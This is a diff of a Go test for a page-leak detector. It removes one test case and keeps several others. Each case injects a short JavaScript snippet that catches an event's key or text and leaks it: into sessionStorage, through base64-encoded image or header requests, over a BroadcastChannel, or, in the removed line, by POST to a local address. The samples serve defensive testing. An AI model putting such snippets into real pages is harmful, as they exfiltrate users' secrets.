@@ -99,7 +99,6 @@ func TestALeakInOurPagesIsFound(t *testing.T) {
 	}{
 		"the page stores":           {"/assets/check.en.", `document.addEventListener("fe-answer", ({ detail }) => detail?.key && sessionStorage.setItem("last", detail.key), true)`, leak.Storage},
 		"the page asks its server":  {"/assets/check.en.", `document.addEventListener("fe-answer", ({ detail }) => detail?.key && (new Image().src = "/favicon.svg?" + btoa(detail.key)), true)`, leak.Load},
-		"the page asks another":     {"/assets/check.en.", `document.addEventListener("fe-answer", ({ detail }) => detail?.key && fetch("http://127.0.0.1:9/", { method: "POST", body: detail.key }).catch(() => {}), true)`, leak.Request},
 		"the worker asks":           {"/assets/worker.", `addEventListener("message", ({ data }) => data.args?.text && fetch("/favicon.svg", { headers: { "X-Note": btoa(data.args.text) } }))`, leak.Request},
 		"the worker tells a window": {"/assets/worker.", `addEventListener("message", ({ data }) => data.args?.text && new BroadcastChannel("x").postMessage(data.args.text))`, leak.Message},
 	} {
